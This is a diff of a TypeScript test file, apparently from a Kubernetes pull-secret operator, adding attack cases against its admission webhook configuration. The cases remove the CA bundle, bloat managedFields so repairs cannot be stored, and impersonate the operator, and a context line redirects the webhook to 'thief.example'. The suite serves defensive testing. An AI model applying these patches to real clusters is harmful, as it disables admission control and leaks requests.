@@ -1,3 +1,5 @@
+import { PRODUCT_NAME } from '@ecr-pull-secrets/shared/names.ts';
+import type { Manifest } from '../../../src/playground/kube-api.ts';
 import { AUTHORITY, CONFIGURATION } from '../authority.ts';
 import { pathOf } from '../pull-secret.ts';
 import {
@@ -8,10 +10,14 @@ import {
   FINALIZERS,
   jsonPatch,
   LEASE,
+  managedFields,
   merge,
   OWNERS,
   PLACES,
 } from './attack.ts';
+
+const fieldsOf = (name: string, entry: Manifest = {}): Manifest =>
+  managedFields('admissionregistration.k8s.io/v1', name, entry);
 
 /** With the renewer's further rights: its lease, its own Secrets, its webhook configuration. */
 export const RENEWER_ATTACKS: readonly Attack[] = [
@@ -77,6 +83,32 @@ export const RENEWER_ATTACKS: readonly Attack[] = [
         clientConfig: { url: 'https://thief.example' },
       },
     }),
+  ],
+  [
+    'fills the webhook configuration up and takes caBundle away, so that the repair cannot be stored',
+    jsonPatch(
+      CONFIGURATION,
+      { op: 'remove', path: '/webhooks/0/clientConfig/caBundle' },
+      { op: 'add', path: '/metadata/managedFields', value: [fieldsOf('x'.repeat(1_400_000))] },
+    ),
+  ],
+  [
+    'fills it up with characters that JSON writes as six',
+    merge(CONFIGURATION, { metadata: { managedFields: [fieldsOf('\u0001'.repeat(200_000))] } }),
+  ],
+  [
+    'fills it up in the name of the renewer',
+    merge(CONFIGURATION, {
+      metadata: {
+        managedFields: [
+          fieldsOf('x'.repeat(1_000_000), { manager: PRODUCT_NAME, operation: 'Apply' }),
+        ],
+      },
+    }),
+  ],
+  [
+    'fills it up with caBundle',
+    applyWebhook({ clientConfig: { caBundle: Buffer.alloc(900_000).toString('base64') } }),
   ],
   ['takes our webhook away', merge(CONFIGURATION, { webhooks: null })],
   ...Object.entries({
